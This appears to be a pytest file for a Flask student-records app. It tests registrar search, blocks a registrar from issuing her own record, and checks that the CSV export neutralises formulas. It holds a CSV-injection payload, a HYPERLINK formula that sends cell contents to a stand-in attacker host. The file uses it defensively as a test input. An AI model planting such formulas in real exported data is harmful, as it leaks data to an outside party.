"""A registrar finds a student, opens their page and issues a record nobody asked for."""

from __future__ import annotations

import csv
import html
import io
import re

from flask import Flask
from flask.testing import FlaskClient

from careercredit.extensions import db
from careercredit.models import RecordRequest, Role, User
from tests.conftest import login, user_id
from tests.factories import Factory
from tests.records.test_pages import documents_of, issue_form, page_text

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


def numbered(app: Flask, person: int, number: str) -> None:
    with app.app_context():
        user = db.session.get(User, person)
        assert user is not None
        user.student_number = number
        db.session.commit()


def links(response) -> list[str]:
    return re.findall(r'href="(/records/students/\d+)"', response.get_data(as_text=True))


def test_search_student_open_the_page_and_issue_without_a_request(
    app: Flask, login_as, make: Factory
) -> None:
    registrar = login_as("registrar")
    bea = make.user("bsmith", Role.student, name="Bea Smith")
    numbered(app, bea, "900000201")
    make.posted_plan(bea, credits=2)
    make.user("cjones", Role.student, name="Cal Jones")
    make.user("ochen", Role.faculty, name="Olivia Chen")  # not a student: never found

    assert links(registrar.get("/records/students?q=bea")) == [f"/records/students/{bea}"]
    assert links(registrar.get("/records/students?q=bsmi")) == [f"/records/students/{bea}"]
    assert links(registrar.get("/records/students?q=900000201")) == [f"/records/students/{bea}"]
    assert links(registrar.get("/records/students?q=Olivia")) == []
    assert "No student matches" in page_text(registrar.get("/records/students?q=Olivia"))

    page = page_text(registrar.get(f"/records/students/{bea}"))
    assert "Records of Bea Smith" in page
    assert "Issue official record" in page
    response = registrar.post(f"/records/students/{bea}/issue", data=issue_form(registrar, bea))

    assert response.status_code == 302
    [document] = documents_of(app, bea)
    assert document.issued_by_id == user_id(app, "rlopez")
    with app.app_context():
        assert db.session.query(RecordRequest).filter_by(student_id=bea).count() == 0


def test_a_registrar_who_is_a_student_finds_herself_but_never_issues_her_record(
    app: Flask, make: Factory
) -> None:
    client: FlaskClient = app.test_client()
    login(client, "pshah")  # a student and a registrar
    me = user_id(app, "pshah")
    make.posted_plan(me)

    assert f"/records/students/{me}" in links(client.get("/records/students?q=pshah"))
    page = page_text(client.get(f"/records/students/{me}"))
    assert "This is your own record" in page
    assert "Issue official record" not in page

    response = client.post(f"/records/students/{me}/issue", data=issue_form_for_own(client, me))
    assert response.status_code == 403
    assert "your own record" in page_text(response)
    assert documents_of(app, me) == []


def issue_form_for_own(client: FlaskClient, student_id: int) -> dict[str, str]:
    """What a crafted request would send: her page offers no button, so the token is her own."""
    body = client.get("/records/mine").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', body)
    assert token
    return {"csrf_token": token.group(1), "latest": "0"}


def test_issued_records_download_as_csv_with_formulas_neutralised(
    app: Flask, login_as, make: Factory
) -> None:
    registrar = login_as("registrar")
    evil = make.user("evil", Role.student, name=FORMULA)
    make.posted_plan(evil)
    registrar.post(f"/records/students/{evil}/issue", data=issue_form(registrar, evil))
    [document] = documents_of(app, evil)

    response = registrar.get("/records/documents.csv?q=evil")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["code"] for row in rows] == [document.code]
    assert rows[0]["student"] == "'" + FORMULA
    assert rows[0]["status"] == "issued"
    index = html.unescape(registrar.get("/records/?q=evil").get_data(as_text=True))
    assert 'href="/records/documents.csv?q=evil"' in index
